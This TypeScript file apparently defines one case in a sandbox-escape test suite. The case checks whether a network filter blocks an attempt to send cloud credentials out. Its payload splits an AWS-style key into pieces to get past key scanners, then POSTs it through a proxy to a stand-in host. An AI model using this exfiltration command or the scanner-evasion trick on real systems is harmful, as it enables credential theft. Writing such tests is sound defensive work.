// Sends a key of a cloud to an allowed host.
import { PLAIN } from "../../baselines.js";
import { reaches } from "../../judges.js";
import { throughProxy } from "../../scripts.js";
import { filteringRequests } from "../../tweaks.js";
import type { Attack } from "../../types.js";

export const networkFilter: Attack = {
  id: "network/filter",
  control: "network.filter",
  severity: "high",
  threats: ["H26"],
  sentence: "Sends a key of a cloud to an allowed host.",
  // In pieces, so that no search for keys finds one here.
  inside: `number=AKIA2OGYBA; half=wJalrXUtnFEMI/K7MDENG
body="aws_access_key_id = $number""H6QFWDMZ3P aws_secret_access_key = $half/bPxRfiCYzQk7TgLmNp $NONCE"
length=\${#body}
${throughProxy("POST http://judged.breakout.test/public/ HTTP/1.1\\r\\nHost: judged.breakout.test\\r\\nConnection: close\\r\\nContent-Length: $length\\r\\n\\r\\n$body")}`,
  judge: reaches("allowed", "tcp4"),
  baseline: PLAIN,
  tweak: filteringRequests,
  policyOnly: true,
};
